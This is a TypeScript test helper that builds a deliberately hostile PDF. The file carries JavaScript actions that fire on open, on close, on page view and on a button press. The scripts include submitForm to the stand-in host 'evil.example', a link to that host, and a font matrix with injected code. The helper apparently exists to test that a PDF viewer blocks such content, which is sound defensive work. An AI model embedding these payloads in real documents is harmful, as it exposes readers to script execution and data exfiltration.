const link = 'http://evil.example/'

/** A PDF with one line per page, which tries to run scripts and to open pages when it is opened, shown or pressed. */
export function hostilePdf(lines: readonly string[]): Buffer {
  const script = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${link}'\\); window.ran = true) >>`
  // A font matrix with code in it is what older readers have run.
  const font =
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); window.ran = true; \\()] >>'
  const first = 6
  const kids = lines.map((_, index) => `${first + index * 2} 0 R`).join(' ')
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(run) ${script}] >> >> >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${lines.length} >>`,
    font,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${link}) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [50 50 90 90] /AA << /E ${script} /PV ${script} >> >>`,
    ...lines.flatMap((line, index) => {
      const content = `BT /F1 36 Tf 60 700 Td (${line}) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${first + index * 2 + 1} 0 R ` +
          `/Resources << /Font << /F1 3 0 R >> >> /Annots [4 0 R 5 0 R] /AA << /O ${script} >> >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]
    }),
  ]
  let file = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = file.length
    file += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const end = file.length
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  return Buffer.from(
    `${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${end}\n%%EOF\n`,
    'latin1',
  )
}
